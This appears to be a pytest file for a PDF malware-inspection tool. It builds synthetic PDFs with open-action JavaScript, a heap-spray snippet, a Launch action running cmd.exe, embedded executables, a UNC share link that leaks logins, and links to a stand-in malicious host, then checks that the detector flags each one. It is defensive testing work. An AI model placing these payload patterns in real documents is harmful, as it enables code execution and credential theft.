"""PDFs: what they do by themselves, how they hide it, and damage that is a finding."""

from __future__ import annotations

import io
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from svc.assistant.findings import Facts, Finding, Gap, ToolEvent, with_facts
from svc.assistant.skills.answer_parts import as_sections
from svc.assistant.skills.indicators.findings import IndicatorFacts
from svc.assistant.skills.pdf import answer as section
from svc.assistant.skills.pdf.findings import PdfFacts, PdfPart, PdfVerdict
from svc.assistant.skills.pdf.tool import inspect
from tests.support import program_files as made

CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
OPENS = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"


def document(*more: bytes, catalogue: bytes = CATALOGUE, page: bytes = PAGE) -> bytes:
    return made.pdf(catalogue, PAGES, page, *more)


def run(data: bytes, name: str = "a.pdf") -> list[ToolEvent]:
    return list(inspect(io.BytesIO(data), source=name))


def found(data: bytes) -> list[Finding[Facts]]:
    return [item for item in run(data) if isinstance(item, Finding)]


def traits(data: bytes) -> set[str]:
    return {f.facts.trait for f in found(data) if f.kind == "pdf_trait" and f.severity != "info"}


def verdict(data: bytes) -> str:
    [finding] = with_facts(found(data), PdfVerdict)
    return finding.facts.verdict


def test_a_plain_page_is_unremarkable():
    [facts] = with_facts(found(document()), PdfFacts)
    assert facts.facts.pages == 1
    assert facts.facts.version == "1.7"
    assert verdict(document()) == "ordinary"


SPRAY = b"var s = unescape('%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090'); eval(s);"
PROGRAM = b"<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>"
TRAITS = {
    "a script on opening": (
        document(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", catalogue=OPENS),
        "script_on_open",
    ),
    "a script that fills memory": (
        document(b"<< /S /JavaScript /JS 5 0 R >>", made.pdf_stream(SPRAY), catalogue=OPENS),
        "script_heap_spray",
    ),
    "a compressed script": (
        document(b"<< /S /JavaScript /JS 5 0 R >>", made.pdf_stream(zlib.compress(SPRAY), b"/Filter /FlateDecode")),
        "script_hidden_script",
    ),
    "a shell": (
        document(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>", catalogue=OPENS),
        "launches_shell",
    ),
    "a program": (document(b"<< /S /Launch /F (update.exe) >>"), "launches_program"),
    "an embedded program": (document(PROGRAM, made.pdf_stream(b"MZ")), "embedded_program"),
    "a login sent to a share": (
        document(b"<< /S /GoToR /F (\\\\\\\\45.9.148.3\\\\s\\\\a.pdf) /D [0 /Fit] >>"),
        "remote_path",
    ),
    "a link to an address": (document(b"<< /S /URI /URI (http://45.9.148.3/login) >>"), "bare_address_link"),
    "a link to a program": (document(b"<< /S /URI /URI (https://files.evil.top/a/invoice.zip) >>"), "program_link"),
    "a link that is a script": (document(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"), "script_link"),
    "names in disguise": (document(b"<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"), "hidden_names"),
    "five filters": (
        document(made.pdf_stream(b"41>", b"/Filter [/ASCIIHexDecode /ASCIIHexDecode /ASCIIHexDecode]")),
        "many_filters",
    ),
    "a picture before the head": (b"GIF89a" + bytes(20) + document(), "late_head"),
    "a program behind the end": (document() + made.pe(), "data_after_end"),
}


@pytest.mark.parametrize(("data", "trait"), TRAITS.values(), ids=TRAITS)
def test_the_behaviour_of_a_pdf_is_a_trait(data: bytes, trait: str):
    assert trait in traits(data)


def test_a_script_is_shown_in_full_with_its_object():
    parts = with_facts(found(TRAITS["a compressed script"][0]), PdfPart)
    [script] = [part for part in parts if part.facts.part == "script"]
    assert script.facts.text == SPRAY.decode()
    assert "object 4" in script.facts.name


def test_an_attack_is_malicious_and_shown_as_a_code_block():
    items = found(TRAITS["a script that fills memory"][0])
    assert "very likely malicious" in section.SECTION.verdict(items)
    assert "```" in as_sections(section.SECTION.folds(items))
    assert section.SECTION.next_steps(items)


def test_links_are_shown_defanged_and_are_indicators():
    items = found(TRAITS["a link to a program"][0])
    assert "https://" not in as_sections(section.SECTION.folds(items)).replace("`", "").split("Evidence")[0]
    assert "https://files.evil.top/a/invoice.zip" in {f.facts.value for f in with_facts(items, IndicatorFacts)}


def test_a_file_with_a_damaged_xref_table_still_lists_its_scripts():
    data = TRAITS["a script that fills memory"][0].replace(b"startxref\n", b"startxref\n9")
    assert "script_heap_spray" in traits(data)


def test_a_file_of_another_kind_is_a_gap():
    items = run(b"a text about a PDF")
    assert not [item for item in items if isinstance(item, Finding)]
    assert any(isinstance(item, Gap) for item in items)


def test_a_stream_with_a_large_decompressed_size_is_bounded():
    bomb = zlib.compress(b"(" * 200_000_000, 9)
    data = document(b"<< /S /JavaScript /JS 5 0 R >>", made.pdf_stream(bomb, b"/Filter /FlateDecode"))
    assert verdict(data)


def test_a_loop_in_the_tree_of_pages_ends():
    assert verdict(made.pdf(CATALOGUE, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"))


def test_a_truncated_document_still_gets_a_verdict():
    data = TRAITS["a script that fills memory"][0]
    for end in range(20, len(data), max(1, len(data) // 50)):
        assert verdict(data[:end])


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 2_000), st.binary(min_size=1, max_size=6)), max_size=8))
def test_changed_bytes_raise_no_exception(changes: list[tuple[int, bytes]]):
    data = bytearray(TRAITS["a script that fills memory"][0])
    for position, piece in changes:
        at = position % len(data)
        data[at : at + len(piece)] = piece
    items = found(bytes(data))
    as_sections(section.SECTION.folds(items))


@pytest.mark.long
@settings(max_examples=3_000, deadline=None)
@given(st.sampled_from([row[0] for row in TRAITS.values()]), st.binary(max_size=200), st.integers(0, 3_000))
def test_spliced_bytes_raise_no_exception(data: bytes, piece: bytes, position: int):
    at = position % len(data)
    found(data[:at] + piece + data[at + len(piece) :])
